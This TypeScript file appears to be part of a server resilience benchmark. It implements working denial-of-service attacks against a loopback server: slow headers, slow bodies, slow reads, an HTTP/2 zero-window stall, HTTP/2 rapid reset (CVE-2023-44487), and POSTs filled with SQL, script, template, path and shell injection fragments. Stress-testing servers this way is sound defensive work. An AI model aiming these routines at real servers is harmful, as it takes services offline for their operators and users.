// One attack of the benchmark `hostile`, in a process of its own: `hostile-attacks.ts NAME PORT TLSPORT`.
// Tells its parent when it is under way, and goes on until it is ended.
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { constants, setPriority } from 'node:os'

/** Names of attacks, in the order of the table. */
export type AttackName =
  | 'slow headers'
  | 'slow bodies'
  | 'slow readers'
  | 'zero window'
  | 'rapid reset'
  | 'attack text'

const CONNECTIONS = 4_000
/** Addresses of loopback that the connections come from: each stays under the default cap of one. */
const ADDRESSES = 32
/** How often a slow client sends something. */
const DRIP_MS = 1_000
const SESSIONS = 32
const STREAMS = 100

const [name = '', port = '', tlsPort = ''] = process.argv.slice(2)

/** An address of this attack: `127.1.0.1`, ... */
function addressOf(index: number): string {
  return `127.1.${Math.floor((index % ADDRESSES) / 250)}.${(index % ADDRESSES) + 1}`
}

function openSocket(index: number): Promise<Socket> {
  return new Promise(resolve => {
    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: addressOf(index) })
    socket.on('error', () => resolve(socket))
    socket.once('connect', () => resolve(socket))
  })
}

async function openSockets(count: number, begin: (socket: Socket) => void): Promise<readonly Socket[]> {
  const sockets: Socket[] = []
  while (sockets.length < count) {
    const batch = Array.from({ length: 100 }, (_, i) => openSocket(sockets.length + i))
    for (const socket of await Promise.all(batch)) {
      sockets.push(socket)
      begin(socket)
    }
  }
  return sockets
}

/**
 * Opens all connections, sends a beginning on each and then a little at a time; one that was closed is opened
 * again.
 */
async function drip(beginning: string, more: string): Promise<void> {
  const sockets = [...(await openSockets(CONNECTIONS, socket => void socket.write(beginning)))]
  for (const socket of sockets) socket.resume()
  setInterval(() => {
    for (const [i, socket] of sockets.entries()) {
      if (socket.destroyed)
        void openSocket(i).then(opened => {
          sockets[i] = opened.resume()
          opened.write(beginning)
        })
      else socket.write(more)
    }
  }, DRIP_MS)
}

function openSession(index: number, initialWindowSize: number): ClientHttp2Session {
  const session = connectHttp2(`https://127.0.0.1:${tlsPort}`, {
    rejectUnauthorized: false,
    localAddress: addressOf(index),
    settings: { initialWindowSize },
  } as Parameters<typeof connectHttp2>[1])
  session.on('error', () => undefined)
  return session
}

/** Asks for large answers on many streams and lets none of them flow. */
async function zeroWindow(): Promise<void> {
  for (let i = 0; i < SESSIONS; i++) {
    const session = openSession(i, 0)
    await new Promise(resolve => session.once('remoteSettings', resolve).once('close', resolve))
    for (let stream = 0; stream < STREAMS && !session.destroyed; stream++)
      session.request({ ':path': '/large' }).on('error', () => undefined)
  }
}

/**
 * Opens streams and cancels them at once (CVE-2023-44487); a session that the server ends is opened again.
 */
function rapidReset(index: number): void {
  const session = openSession(index, 65_535)
  session.once('close', () => setTimeout(() => rapidReset(index + SESSIONS), 50))
  const burst = (): void => {
    if (session.closed || session.destroyed) return
    for (let i = 0; i < 20; i++) {
      const stream = session.request({ ':path': '/' })
      stream.on('error', () => undefined)
      stream.close(8)
    }
    setTimeout(burst, 5)
  }
  session.once('connect', burst)
}

/**
 * 256 KB of pieces of attacks, none of them whole, as one text: one such post every four seconds, from an
 * address of its own.
 */
async function attackText(): Promise<void> {
  const pieces = [
    "' OR 1=1 ",
    '<script ',
    '{{7*7}} ',
    '../../etc/',
    '; cat ',
    'UNION SELECT ',
    '$(id) ',
    '%0d%0a',
  ]
  const text = pieces
    .join('')
    .repeat(Math.ceil(262_144 / pieces.join('').length))
    .slice(0, 262_144)
  const post = async (index: number): Promise<void> => {
    const socket = await openSocket(index)
    socket.resume()
    socket.write(
      `POST /notes HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nConnection: close\r\nContent-Length: ${text.length}\r\n\r\n${text}`,
    )
  }
  let sent = 0
  await post(sent++)
  setInterval(() => void post(sent++), 4_000)
}

async function attack(): Promise<void> {
  switch (name as AttackName) {
    case 'slow headers':
      return drip('GET / HTTP/1.1\r\nHost: a\r\n', 'X-A: b\r\n')
    case 'slow bodies':
      return drip(
        'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\nContent-Type: text/plain\r\n\r\n',
        'a'.repeat(64),
      )
    case 'slow readers':
      await openSockets(CONNECTIONS, socket => {
        socket.pause()
        socket.write('GET /large HTTP/1.1\r\nHost: a\r\n\r\n')
      })
      return
    case 'zero window':
      return zeroWindow()
    case 'rapid reset':
      for (let i = 0; i < SESSIONS / 4; i++) rapidReset(i)
      return
    case 'attack text':
      return attackText()
  }
}

// Attackers have machines of their own: here they get the processor time that nobody else wants.
setPriority(constants.priority.PRIORITY_LOW)
await attack()
process.send?.('under way')
process.on('disconnect', () => process.exit())
